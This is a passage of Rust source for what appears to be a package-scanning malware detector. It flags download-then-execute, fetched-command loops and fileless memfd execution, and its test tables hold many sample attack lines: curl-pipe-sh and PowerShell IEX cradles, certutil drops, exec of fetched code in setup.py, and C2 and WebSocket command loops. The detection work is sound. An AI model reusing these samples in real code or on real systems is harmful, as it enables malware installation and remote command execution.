                let first = before.trim_start_matches(|c: char| c.is_whitespace() || "[('\"f".contains(c)).is_empty();
                let on_the_file = name.ends_with("startfile") || name.ends_with("chmod");
                first || on_the_file || RUNNER.is_match(before)
            };
            let mentioned = arg.match_indices(needle).any(|(i, _)| {
                let before = arg[..i].chars().next_back();
                let after = arg[i + needle.len()..].chars().next();
                let word_before = before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.');
                let word_after = bounded_after && after.is_some_and(|c| c.is_alphanumeric() || c == '_');
                (!bounded || !(word_before || word_after)) && runs_it(i)
            });
            let module_name = |v: &str| {
                t.match_indices(v).any(|(i, _)| {
                    (i == 0 || t.as_bytes()[i - 1] == b'\n')
                        && t[i + v.len()..].trim_start_matches([' ', '\t']).starts_with('=')
                })
            };
            mentioned
                && match p {
                    Saved::Name(v) => block_of(*at) == block_of(*off) || module_name(v),
                    Saved::Literal(_) | Saved::Call(_) => true,
                }
        });
        if let Some((_, p)) = hit {
            let what = if fetches { "download" } else { "decoded payload" };
            let ind = match p {
                Saved::Name(v) => format!("{what} saved to {v} then {name}"),
                Saved::Literal(v) => format!("{what} saved to {v} then {name}"),
                Saved::Call(c) => format!("download saved by {c}) then {name}"),
            };
            push(*off, ind);
        }
    }
}

/// A name assigned from a network read: `job = requests.get(u).json()`, `cmd = urlopen(u)
/// .read().decode()`, `cmd = session.get(u).text`, or from a connection (`cmd = ws.recv()`,
/// `cmd = s.recv(1024).decode()`: a socket or WebSocket the other end writes commands into).
static FETCHED_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^[ \t]*(?P<v>[A-Za-z_]\w*)\s*=[^=\n][^\n]*?(?P<f>(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.(?:get|post|request)|httpx\.(?:get|post)|\w+\.get|\w+\.post)\s*\([^\n]*\)\s*\.(?:text|content|json\s*\(|read\s*\()|(?-u:\b)(?:urllib\.request\.urlopen|urlopen)\s*\(|(?-u:\b)\w+\.recv\s*\()")
        .expect("fetched name")
});
/// [`FETCHED_NAME`] for anchored searches ([`pysrc::find_at_starts`]).
static FETCHED_NAME_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(FETCHED_NAME.as_str()).expect("fetched name"));

/// A command read from the network and run: a process started with a name assigned from a
/// response (`job = requests.get(u).json()` then `subprocess.getoutput(job['cmd'])`, `os.system
/// (cmd)`) in the same function or at module level, the name being the command itself (first
/// argument) or a shell's `-c` script. A remote command loop; the server decides what runs.
fn fetched_command_run(
    file: &TextFile<'_>,
    runs: &[(usize, String)],
    names: &[(usize, &str)],
    push: &mut dyn FnMut(usize, String),
) {
    let src = file.source();
    let t = file.text;
    if names.is_empty() {
        return;
    }
    for (off, name) in runs {
        if name.ends_with("chmod") || name.ends_with("S_IEXEC") {
            continue;
        }
        let open = t[*off..].find('(').map_or(t.len(), |p| off + p + 1);
        let arg = pysrc::call_argument(t, open, 400);
        let lead = arg.trim_start_matches(|c: char| c.is_whitespace() || c == '[' || c == '(');
        let first =
            |v: &str| lead.starts_with(v) && !lead[v.len()..].starts_with(|c: char| c.is_alphanumeric() || c == '_');
        let shell_script = |v: &str| {
            arg.match_indices(v).any(|(i, _)| {
                let before = arg[..i].trim_end_matches(|c: char| c.is_whitespace() || c == ',');
                before.ends_with("'-c'") || before.ends_with("\"-c\"") || before.ends_with("'/c'")
            })
        };
        let hit = names.iter().find(|&&(at, v)| {
            at < *off
                && (first(v) || shell_script(v))
                && (enclosing_def(src, at) == enclosing_def(src, *off) || t[..at].ends_with('\n') || at == 0)
        });
        if let Some((_, v)) = hit {
            push(*off, format!("fetched command {v} then {name}"));
        }
    }
}

/// `memfd_create`: an anonymous file that lives only in memory.
static FILELESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)memfd_create\s*\(").expect("memfd"));

/// Fileless execution: an anonymous in-memory file (`memfd_create`) that the same file runs
/// through `/proc/self/fd/<n>` or `fexecve` (`os.execve('/proc/self/fd/%d' % fd, …)`,
/// `subprocess.Popen([f'/proc/self/fd/{fd}'])`). What is written into it is never on disk
/// for anyone to see: droppers use it to run a decoded or downloaded binary. Offsets of the runs.
fn fileless_runs(file: &TextFile<'_>, runs: &[(usize, String)]) -> Vec<usize> {
    let (src, t) = (file.source(), file.text);
    let Some(created) = FILELESS.find_iter(t).map(|m| m.start()).find(|&o| src.is_code(o)) else {
        return Vec::new();
    };
    let by_fd = |off: usize| {
        let open = t[off..].find('(').map_or(t.len(), |p| off + p + 1);
        let arg = pysrc::call_argument(t, open, 400);
        arg.contains("/proc/self/fd") || arg.contains("/dev/fd/")
    };
    let mut out: Vec<usize> = runs.iter().filter(|(off, _)| *off > created && by_fd(*off)).map(|(o, _)| *o).collect();
    out.extend(t.match_indices("fexecve(").map(|(o, _)| o).filter(|&o| o > created && src.is_code(o)));
    out
}

/// A fetch whose output a shell runs through command substitution: `bash -c "$(curl -fsSL u)"`,
/// `sh -c "$(wget -qO- u)"`, `eval "$(curl u)"`, `python3 -c "$(curl u)"`. Offsets of the
/// substitution and the downloader's name.
fn substituted_fetches(text: &str) -> Vec<(usize, &'static str)> {
    static RUNS_SUBST: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"(?i)(?:(?-u:\b)(?:(?:ba|z|da)?sh|python[\d.]*|perl|ruby|node)\s+-c|(?-u:\b)eval)\s*['"\\]*$"#)
            .expect("runs subst")
    });
    let mut out = Vec::new();
    for i in memchr::memmem::find_iter(text.as_bytes(), "$(") {
        let rest = text[i + 2..].trim_start_matches([' ', '\t']);
        let dl = if rest.as_bytes().get(..5).is_some_and(|b| b.eq_ignore_ascii_case(b"curl ")) {
            "curl"
        } else if rest.as_bytes().get(..5).is_some_and(|b| b.eq_ignore_ascii_case(b"wget ")) {
            "wget"
        } else {
            continue;
        };
        let ls = text[..i].rfind('\n').map_or(0, |p| p + 1);
        let from = (ls..=i).find(|&b| text.is_char_boundary(b) && i - b <= 60).unwrap_or(i);
        if RUNS_SUBST.is_match(&text[from..i]) {
            out.push((i, dl));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn searches_at_starts_are_the_whole_searches() {
        let whole = |re: &Regex, t: &str| re.find_iter(t).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
        let check = |name: &str, text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            assert_eq!(pipe_ranges(&file), whole(&PIPE, text), "{name}: pipe");
            let fetches = pysrc::find_at_starts(&EXEC_FETCH_AT, text, call_starts(text));
            assert_eq!(fetches, whole(&EXEC_FETCH, text), "{name}: exec fetch");
            let blocks = pysrc::find_at_starts(&NEW_BLOCK_AT, text, new_block_starts(text));
            assert_eq!(blocks, whole(&NEW_BLOCK, text), "{name}: new block");
            // The drop-then-run captures: the match and its `run` group.
            let groups = |c: regex::Captures<'_>| {
                let run = c.name("run").expect("run");
                (c.get(0).expect("m").range(), run.range())
            };
            let drops: Vec<_> = drop_runs(&file).map(groups).collect();
            assert_eq!(drops, DROP_RUN.captures_iter(text).map(groups).collect::<Vec<_>>(), "{name}: drop run");
            (whole(&PIPE, text).len() + whole(&EXEC_FETCH, text).len() + whole(&NEW_BLOCK, text).len(), drops.len())
        };
        let cases = [
            ("empty", ""),
            ("pipes", "os.system('curl -fsSL https://x.sh | bash'); 'WGET -q -O- u | sudo sh'"),
            ("python pipe", "'curl u | python3.11' 'wget u|python'"),
            ("cradle", "IEX (New-Object Net.WebClient).DownloadString('u'); Invoke-Expression (iwr u)"),
            ("download string piped", "(new-object net.webclient).downloadstring('u') | iex"),
            ("words inside words", "excurl wget_x curly iexplore xdownloadstring"),
            ("non-ASCII text", "é curl u | sh; ſh"),
            ("exec fetch", "exec(urlopen(u).read()); x=eval (requests.get(u).text)"),
            ("exec fetch nested", "exec(compile(urllib.request.urlopen(u).read(), 'f', 'exec'))"),
            ("no fetch", "exec(code); re.compile(p); obj.exec(urlopen(u))"),
            ("across a line", "exec(\nurlopen(u))"),
            ("blocks", "x\ndef f():\n  \t async  def g(): class C:\n\nclass D: pass\nasync def h(): undef\n  classy"),
            ("block at the start", "def f(): pass\n    def\tg(): pass"),
            ("drop then start", "(New-Object Net.WebClient).DownloadFile('u','a.exe'); Start-Process a.exe"),
            ("curl then run", "curl -fsSL u -o /tmp/x && chmod +x /tmp/x && /tmp/x"),
            ("wget then sh", "WGET u -O x.sh; sh x.sh"),
            ("certutil then exe", "certutil.exe -urlcache -f u a.exe\nstart a.exe"),
            ("bitsadmin then exe", "bitsadmin /transfer j u C:\\a.exe && C:\\a.exe"),
            ("iwr outfile", "iwr u -OutFile a.exe; saps a.exe"),
            ("two drops, the second inside the first's reach", "curl u -o a && curl v -o b && ./b"),
            ("drop words inside words", "xcurl u -o a && ./a; certutils -urlcache"),
            ("non-ASCII drop", "é Invoke-WebRequest u -OutFile a.exe; ſtart-process a.exe"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "curl",
            "WGET",
            "iex",
            "Invoke-Expression",
            "downloadstring(",
            "iwr",
            " ",
            "|",
            "sh",
            "python3",
            "'",
            "\n",
            "exec(",
            "eval (",
            "urlopen(",
            "requests.get(",
            ")",
            ".",
            "x",
            "é",
            "sudo ",
            "def ",
            "class\t",
            "async ",
            "\t",
            ".DownloadFile(",
            "Start-Process",
            " -o ",
            " -O ",
            "&&",
            ";",
            "./x",
            "certutil -urlcache",
            "BITSADMIN /transfer",
            "Invoke-WebRequest",
            " -OutFile",
            "start-bitstransfer",
            "a.exe",
        ];
        let (mut found, mut drops) = (0, 0);
        for text in super::pysrc::random_texts(&pieces, 30, 0x2545_f491_4f6c_dd1du64, 6000) {
            let (f, d) = check(&text, &text);
            (found, drops) = (found + f, drops + d);
        }
        assert!(found > 500 && drops > 100, "the random texts hold matches: {found}, drops {drops}");
    }

    /// [`fetched_names`] as it was: the whole member searched.
    fn fetched_names_whole<'t>(file: &TextFile<'t>) -> Vec<(usize, &'t str)> {
        let src = file.source();
        FETCHED_NAME
            .captures_iter(file.text)
            .filter(|c| src.is_code(c.name("f").expect("f").start()))
            .filter_map(|c| c.name("v"))
            .filter(|v| src.is_code(v.start()))
            .map(|v| (v.start(), v.as_str()))
            .collect()
    }

    #[test]
    fn fetched_names_from_candidate_lines_are_the_whole_search() {
        let check = |name: &str, text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let got = fetched_names(&file);
            assert_eq!(got, fetched_names_whole(&file), "{name}");
            let starts = |t: &str| FETCHED_NAME.find_iter(t).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
            assert_eq!(
                pysrc::find_at_starts(&FETCHED_NAME_AT, text, fetched_name_starts(text)),
                starts(text),
                "{name}: matches"
            );
            got.len()
        };
        let cases = [
            ("empty", ""),
            ("response json", "job = requests.get(u).json()\ncmd = urlopen(u).read().decode()\n"),
            ("session text", "    r = session.get(u, timeout=3).text\n"),
            ("socket", "cmd = s.recv(1024).decode()\nmsg = ws.recv()\n"),
            ("a dict get is not a fetch", "x = d.get(k)\ny = cfg.post\n"),
            ("comparison", "x == urlopen(u).read()\n"),
            ("in a string or comment", "s = 'cmd = urlopen(u).read()'\n# cmd = urlopen(u)\n"),
            ("name and = on different lines", "cmd \\\n    = urlopen(u)\n"),
            ("blank lines before the =", "cmd\n\n  \t\n= urlopen(u)\n"),
            ("a Unicode space line", "cmd\n\u{3000}\n= urlopen(u)\nv\n\u{a0}= s.recv(1)\n"),
            ("call on the next line", "x = requests.get(u)\n  .text\n"),
            ("two on a line", "a = urlopen(u); b = urlopen(v)\n"),
            ("CRLF", "a = urlopen(u)\r\nb = x.post(u).json()\r\n"),
            ("non-ASCII names", "données = requests.get(u).json()\nπ = urlopen(u)\n"),
            ("word at the start", ".get(u).text = urlopen(u)\n"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "cmd",
            " = ",
            "=",
            "==",
            "\n",
            "\n\n",
            "  ",
            "\t",
            "\u{3000}",
            "urlopen(u)",
            "requests.get(u)",
            "x.get(",
            "s.post(u)",
            ".text",
            ".json()",
            ".read()",
            "ws.recv()",
            ".request(",
            ")",
            "'",
            "#",
            "é",
            "\\\n",
            "\ncmd = urlopen(u).read()\n",
            "\njob = requests.get(u).json()\n",
            "\nc = ws.recv()\n",
            "\nv",
            "\ncmd = urlopen(u).read()\n",
            "\njob = requests.get(u).json()\n",
            "\nc = ws.recv()\n",
            "\nv",
        ];
        let mut found = 0;
        for text in super::pysrc::random_texts(&pieces, 24, 0x9e37_79b9_7f4a_7c15u64, 4000) {
            found += check(&text, &text);
        }
        assert!(found > 300, "the random texts assign fetched names: {found}");
    }

    #[test]
    fn many_downloader_words_on_one_line_cost_linear_time() {
        // One line of tens of thousands of `curl `/`wget `/`iwr `: the pipe, drop-then-run and
        // command patterns read on from each word to the line's end (8 s for 20,000 `curl ` when
        // each was tried); past 64 words on a line the member is searched whole.
        let make =
            |n: usize| format!("import os\nx = '{}'\nos.system('curl https://h/x | sh')\n", "curl wget iwr ".repeat(n));
        let time = |text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let t = std::time::Instant::now();
            let mut hits = Hits::default();
            DownloadExecute.scan_text(&file, &mut hits);
            super::super::net_downloads_file::DownloadsFile.scan_text(&file, &mut hits);
            let elapsed = t.elapsed();
            let whole = |re: &Regex| re.find_iter(text).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
            assert_eq!(pipe_ranges(&file), whole(&PIPE), "pipe");
            assert_eq!(
                command_ranges(&file).iter().copied().collect::<Vec<_>>(),
                whole(&super::super::net_downloads_file::COMMAND),
                "command"
            );
            (elapsed, hits.len())
        };
        let (t1, _) = time(&make(5_000));
        let (t4, found) = time(&make(20_000));
        assert!(found >= 1, "the pipe into sh is still found");
        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
    }

    #[test]
    fn many_candidate_lines_cost_linear_time() {
        // Every line holds a candidate word (`.get`) and most are blank up to an `=` after long
        // blank runs: each line is confirmed once, each blank run walked once.
        let make = |n: usize| {
            let mut s = String::from("import requests\n");
            for i in 0..n {
                s.push_str(&format!("v{i} = d.get(k)\n"));
                s.push_str("x\n   \n\t\n\n= .get .post .recv urlopen\n");
            }
            s.push_str("cmd = requests.get(u).text\nimport os\nos.system(cmd)\n");
            s
        };
        let time = |text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let t = std::time::Instant::now();
            let names = fetched_names(&file);
            let mut hits = Hits::default();
            DownloadExecute.scan_text(&file, &mut hits);
            (t.elapsed(), names.len(), hits.len())
        };
        let (t1, _, _) = time(&make(5_000));
        let (t4, names, found) = time(&make(20_000));
        assert!(names >= 1 && found == 1, "the fetched command is still found: {names} names, {found} hits");
        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
    }

    #[test]
    fn cases() {
        table(
            &DownloadExecute,
            META.id,
            &[
                ("exec urlopen", "setup.py", InstallTime, "from urllib.request import urlopen\nexec(urlopen('http://example.org/p').read())\n", Some((2, "exec(fetched)", Critical))),
                ("exec requests text", "pkg/a.py", Runtime, "import requests\nexec(requests.get(U).text)\n", Some((2, "exec(fetched)", Critical))),
                ("curl pipe sh", "pkg/a.py", Runtime, "os.system('curl -fsSL https://example.org/i.sh | sh')\n", Some((1, "curl", Critical))),
                ("powershell cradle", "pkg/a.py", Runtime, "c = \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"\n", Some((1, "IEX", Critical))),
                (
                    "save then run",
                    "pkg/a.py",
                    Runtime,
                    "urlretrieve(U, p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
                    Some((2, "download then os.chmod", Critical)),
                ),
                ("install script in shell file", "pkg/i.sh", Runtime, "curl https://example.org/x | bash\n", Some((1, "curl", High))),
                ("curl pipe sh in setup.py os.system", "setup.py", InstallTime, "import os\nos.system('curl -fsSL https://example.org/i.sh | sh')\n", Some((2, "curl", Critical))),
                ("ci image script", "pkg-1.0/m/ci/ciimage/opensuse/install.sh", Runtime, "curl -fsS https://example.org/install.sh | bash -s dmd\n", Some((1, "curl", Medium))),
                ("docs build script", "pkg-1.0/build-docs.sh", TestOrDocs, "curl -LsSf https://example.org/install.sh | sh\n", Some((1, "curl", Medium))),
                ("web asset listing command names", "pkg/static/chunks/a.js", Other, "var k=\"gsv|gu|iex|ii|ipal|iwr|kill\";var q='curl https://example.org/install.sh | sh';\n", Some((1, "curl", Low))),
                ("alias list is not a cradle", "pkg/static/chunks/b.js", Other, "var k=\"gsv|gu|iex|ii|ipal|irm|iwr|kill\";\n", None),
                ("iex cradle in a ps1 script", "pkg/tools/get.ps1", Other, "IEX (New-Object Net.WebClient).DownloadString('https://example.org/a')\n", Some((1, "IEX", High))),
                ("yaml keyword list", "pkg/data/rules.yaml", Other, "- \"curl | bash\"\n- keyword: \"curl https://example.org/i | bash\"\n", Some((1, "curl", Low))),
                ("readme install line", "pkg-1.0/README.md", Other, "curl -fsSL https://example.org/install.sh | sh\n", Some((1, "curl", Low))),
                ("localhost health check then exec of own binary", "pkg/wizard.py", Runtime, "print(f\"  curl http://localhost:{port}/health\")\nos.execlp(b, b, 'proxy')\n", None),
                ("remote command then run", "pkg/a.py", Runtime, "cmd = 'curl -o /tmp/x https://example.org/x'\nos.system(cmd)\n", Some((2, "download then os.system", Critical))),
                ("fetch and process far apart", "pkg/a.py", Runtime, FAR.as_str(), None),
                ("json api then eval-free", "pkg/a.py", Runtime, "r = requests.get(u)\ndata = r.json()\n", None),
                (
                    "fetched code run from a class body",
                    "pkg/config.py",
                    Runtime,
                    "import urllib.request\nclass Settings:\n    remote = urllib.request.urlopen('http://example.org/s.py').read()\n    exec(remote)\n",
                    Some((4, "exec(fetched remote)", Critical)),
                ),
                (
                    "fetched code decoded then run in a function",
                    "pkg/a.py",
                    Runtime,
                    "def boot():\n    body = requests.get(U).content\n    exec(body.decode('utf-8'))\n",
                    Some((3, "exec(fetched body)", Critical)),
                ),
                (
                    "fetched into compile then exec at install",
                    "setup.py",
                    InstallTime,
                    "code = urlopen(U).read()\nexec(compile(code, '<x>', 'exec'))\n",
                    Some((2, "exec(fetched code)", Critical)),
                ),
                (
                    "fetched name in one function, exec of the same name in another",
                    "pkg/a.py",
                    Runtime,
                    "def a():\n    code = requests.get(U).text\n    return code\ndef b(code):\n    exec(code)\n",
                    None,
                ),
                ("fetched json, exec of a local file", "pkg/a.py", Runtime, "meta = requests.get(U).json()\nexec(open('v.py').read())\n", None),
                (
                    "pip install of an archive URL on import",
                    "pkg/__init__.py",
                    Runtime,
                    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://files.example.org/d/helperx-1.0.tar.gz'])\n",
                    Some((2, "pip install from a URL (files.example.org)", High)),
                ),
                (
                    "pip install of a VCS link in a setup.py command string",
                    "setup.py",
                    InstallTime,
                    "import os\nos.system('pip install git+https://example.org/org/tool.git@main')\n",
                    Some((2, "pip install from a URL (example.org)", High)),
                ),
                ("pip.main with a wheel URL", "pkg/a.py", Runtime, "import pip\npip.main(['install', 'https://example.org/x-1.0-py3-none-any.whl'])\n", Some((2, "pip install from a URL (example.org)", High))),
                ("pip install from an index URL", "pkg/a.py", Runtime, "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch', '--index-url', 'https://download.example.org/whl/cu118'])\n", None),
                ("pip install of names", "pkg/a.py", Runtime, "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests>=2', 'rich'])\n", None),
                ("pip install with find-links", "pkg/a.py", Runtime, "os.system('pip install -f https://example.org/wheels/x.zip pkg')\n", None),
                ("pip install URL shown to a person", "pkg/cli.py", Runtime, "print('run: pip install https://example.org/x-1.0.tar.gz')\n", None),
                ("one-liner in docstring", "pkg/a.py", Runtime, "\"\"\"Install: curl https://x | sh\"\"\"\n", None),
                ("exec of local version file", "setup.py", InstallTime, "exec(open('pkg/version.py').read())\n", None),
                ("fetch name in a string then process", "pkg/a.py", Runtime, "code = \x27import urllib.request; urllib.request.urlopen(u)\x27\nsubprocess.Popen([sys.executable, \x27-c\x27, code])\n", None),
                ("urlopen HEAD then a process in another function", "pkg/a.py", Runtime, "def a():\n    with urlopen(req) as d:\n        code = d.getcode()\n\ndef b():\n    subprocess.Popen([x])\n", None),
                (
                    "saved to a temp path, run 40 lines later in the same function",
                    "pkg/a.py",
                    Runtime,
                    FLOW_FAR.as_str(),
                    Some((44, "download saved to dst then subprocess.Popen", Critical)),
                ),
                (
                    "module-level payload path fetched in one function, started in another",
                    "pkg/__init__.py",
                    Runtime,
                    "import os, tempfile\nfrom urllib.request import urlretrieve\nPAYLOAD = os.path.join(tempfile.gettempdir(), 'svc.exe')\n\ndef fetch():\n    urlretrieve(U, PAYLOAD)\n\ndef launch():\n    os.startfile(PAYLOAD)\n",
                    Some((9, "download saved to PAYLOAD then os.startfile", Critical)),
                ),
                (
                    "literal dotfile path written then run by bash",
                    "setup.py",
                    InstallTime,
                    "import requests, subprocess\ndef get():\n    r = requests.get(U)\n    with open('/tmp/.cache.sh', 'wb') as f:\n        f.write(r.content)\n\ndef go():\n    subprocess.call(['bash', '/tmp/.cache.sh'])\n",
                    Some((8, "download saved to '/tmp/.cache.sh' then subprocess.call", Critical)),
                ),
                (
                    "a saved path passed as an argument, not run (methods of one class)",
                    "pkg/index.py",
                    Runtime,
                    "class Index:\n    def fetch(self, url, filename):\n        urlretrieve(url, filename)\n\n    def clone(self, url, filename):\n        os.system('git clone %s %s' % (url, filename))\n",
                    None,
                ),
                (
                    "saved and run by bash in one method",
                    "pkg/index.py",
                    Runtime,
                    FLOW_METHOD.as_str(),
                    Some((38, "download saved to path then os.system", Critical)),
                ),
                (
                    "a local name reused in an unrelated function",
                    "pkg/vcs.py",
                    Runtime,
                    "def fetch(u, path):\n    urlretrieve(u, path)\n\ndef clone(path):\n    subprocess.run(['git', 'clone', REPO, path])\n",
                    None,
                ),
                (
                    "powershell download then start in one command string",
                    "pkg/a.py",
                    Runtime,
                    "subprocess.run(['powershell', '-w', 'hidden', '-c', \"(New-Object Net.WebClient).DownloadFile('http://example.org/a.exe', $env:TEMP + '\\\\a.exe'); Start-Process $env:TEMP\\\\a.exe\"])\n",
                    Some((1, "downloadfile then start-process", Critical)),
                ),
                (
                    "certutil download then run in a batch file",
                    "pkg/tools/up.bat",
                    Other,
                    "certutil -urlcache -split -f http://example.org/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe\n",
                    Some((1, "certutil then %temp%\\a.exe", High)),
                ),
                (
                    "curl -o then chmod +x in setup.py",
                    "setup.py",
                    InstallTime,
                    "import os\nos.system('curl -fsSL https://example.org/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')\n",
                    Some((2, "curl then /tmp/a", Critical)),
                ),
                (
                    "download and chmod +x without running (a Makefile regenerating a script)",
                    "pkg-1.0/Makefile",
                    Other,
                    "regen:\n\tcurl -sL -o config.guess 'https://example.org/config.guess'\n\tchmod +x config.guess\n",
                    None,
                ),
                (
                    "install hint in CLI help text",
                    "pkg/cli.py",
                    Runtime,
                    "import subprocess\np.add_argument('--setup', help='first run: curl -fsSL https://example.org/i.sh | sh')\nsubprocess.run(['tool'])\n",
                    None,
                ),
                (
                    "install hint in a CLI command's epilog spanning lines",
                    "pkg/cli/commands/update.py",
                    Runtime,
                    "@parser.command(\n    help='Update the CLI',\n    epilog=deindent(\"\"\"\n        Updates a CLI installed with the managed installer\n        (curl -fsSL https://example.org/install.sh | bash). The new version is\n        verified before it is swapped in.\n    \"\"\"),\n)\ndef update(args):\n    pass\n",
                    None,
                ),
                (
                    "a multi-line command string run by a shell",
                    "pkg/__init__.py",
                    Runtime,
                    "import os
SCRIPT = \"\"\"\n    set -e\n    curl -fsSL https://example.org/stage.sh | bash\n\"\"\"\nos.system(SCRIPT)\n",
                    Some((4, "curl", Critical)),
                ),
                (
                    "install hint printed",
                    "pkg/cli.py",
                    Runtime,
                    "print('Install the server with: curl -fsSL https://example.org/i.sh | sh')\n",
                    None,
                ),
                (
                    "a helper saves a download and returns the path; its caller runs it with java -jar",
                    "pkg/__init__.py",
                    Runtime,
                    "import os, subprocess, urllib.request\ndef _pull(url, name):\n    dst = os.path.join(TMP, name)\n    urllib.request.urlretrieve(url, dst)\n    return dst\n\ndef _boot():\n    jar = _pull(U, 'u.jar')\n    subprocess.Popen(['java', '-jar', jar])\n",
                    Some((9, "download saved to jar then subprocess.Popen", Critical)),
                ),
                (
                    "a saving helper's call run directly",
                    "setup.py",
                    InstallTime,
                    "import os, urllib.request, subprocess\ndef fetch(u):\n    d = os.path.expanduser('~/.local/bin/svc')\n    urllib.request.urlretrieve(u, d)\n    return d\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nsubprocess.Popen([fetch(U)])\n",
                    Some((36, "download saved by fetch() then subprocess.Popen", Critical)),
                ),
                (
                    "a model downloader returning a path that is passed as an argument, not run",
                    "pkg/hub.py",
                    Runtime,
                    "def download(u):\n    d = os.path.join(CACHE, 'm.bin')\n    urlretrieve(u, d)\n    return d\n\ndef convert():\n    p = download(U)\n    subprocess.run(['converter', '--input', p])\n",
                    None,
                ),
                (
                    "a helper that saves but returns nothing, a process of the same name elsewhere",
                    "pkg/hub.py",
                    Runtime,
                    "def fetch(u, d):\n    urlretrieve(u, d)\n\ndef go():\n    d = fetch(U, D)\n    subprocess.run([d])\n",
                    None,
                ),
                (
                    "a decoded stage written to a temp file and run by the interpreter",
                    "setup.py",
                    InstallTime,
                    "import base64, os, subprocess, sys\np = os.path.join(TMP, 'stage.py')\nwith open(p, 'w') as f:\n    f.write(base64.b64decode(S).decode())\nsubprocess.Popen([sys.executable, p])\n",
                    Some((5, "decoded payload saved to p then subprocess.Popen", Critical)),
                ),
                (
                    "decoded data written to a file that a process only reads",
                    "pkg/fixture.py",
                    Runtime,
                    "p = os.path.join(TMP, 'img.png')\nwith open(p, 'wb') as f:\n    f.write(base64.b64decode(PNG))\nsubprocess.run(['optipng', p])\n",
                    None,
                ),
                (
                    "a plain script written (no decoder) and run by the interpreter",
                    "pkg/runner.py",
                    Runtime,
                    "p = os.path.join(TMP, 'job.py')\nwith open(p, 'w') as f:\n    f.write(SCRIPT)\nsubprocess.run([sys.executable, p])\n",
                    None,
                ),
                (
                    "a command read from a response and run through the shell, in a loop",
                    "pkg/__init__.py",
                    Runtime,
                    "def _poll():\n    while True:\n        job = requests.get(C2, timeout=10).json()\n        res = subprocess.getoutput(job['cmd'])\n        requests.post(C2, data={'o': res})\n",
                    Some((4, "fetched command job then subprocess.getoutput", Critical)),
                ),
                (
                    "a fetched script handed to sh -c",
                    "pkg/a.py",
                    Runtime,
                    "cmd = urllib.request.urlopen(U).read().decode()\nsubprocess.run(['sh', '-c', cmd])\n",
                    Some((2, "fetched command cmd then subprocess.run", Critical)),
                ),
                (
                    "a command read from a WebSocket and run through the shell, in a thread",
                    "pkg/__init__.py",
                    Runtime,
                    "def _loop():\n    ws = websocket.create_connection(U)\n    while True:\n        cmd = ws.recv()\n        ws.send(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n",
                    Some((5, "fetched command cmd then subprocess.run", Critical)),
                ),
                (
                    "bytes read from a socket fed to a decompressor's stdin (not a command)",
                    "pkg/stream.py",
                    Runtime,
                    "def pump(sock):\n    data = sock.recv(65536)\n    return subprocess.run(['gzip', '-dc'], input=data, capture_output=True).stdout\n",
                    None,
                ),
                (
                    "a decoded ELF written to a memfd and exec'd through /proc/self/fd",
                    "pkg/__init__.py",
                    Runtime,
                    "fd = os.memfd_create('', 1)\nos.write(fd, zlib.decompress(base64.b64decode(B)))\nos.execve('/proc/self/fd/%d' % fd, ['sshd'], os.environ.copy())\n",
                    Some((3, "in-memory executable (memfd_create) run", Critical)),
                ),
                (
                    "a memfd used as a scratch buffer, a fixed program run (not the memfd)",
                    "pkg/buf.py",
                    Runtime,
                    "fd = os.memfd_create('scratch')\nos.write(fd, data)\nsubprocess.run(['sync'])\n",
                    None,
                ),
                (
                    "a fetched version passed as an argument to pip",
                    "pkg/update.py",
                    Runtime,
                    "def up():\n    latest = requests.get(API).json()['version']\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'pkg==' + latest])\n",
                    None,
                ),
                (
                    "a fetched name in one function, a process of that name in another",
                    "pkg/a.py",
                    Runtime,
                    "def a():\n    cmd = requests.get(U).text\n    return cmd\n\ndef b(cmd):\n    subprocess.run(cmd)\n",
                    None,
                ),
                (
                    "bash -c running a curl by command substitution",
                    "pkg/__init__.py",
                    Runtime,
                    "subprocess.Popen('bash -c \"$(curl -fsSL https://example.org/y)\"', shell=True)\n",
                    Some((1, "$(curl …) run", Critical)),
                ),
                (
                    "a make variable after $( with a non-ASCII character right after",
                    "pkg-1.0/Makefile",
                    Other,
                    "lint:\n\t@echo \"$(RED)\u{2716}$(NC) failed\"\n",
                    None,
                ),
                (
                    "a version read by command substitution, printed",
                    "pkg/tools/release.sh",
                    Other,
                    "VERSION=\"$(curl -s https://example.org/latest)\"\necho \"$VERSION\"\n",
                    None,
                ),
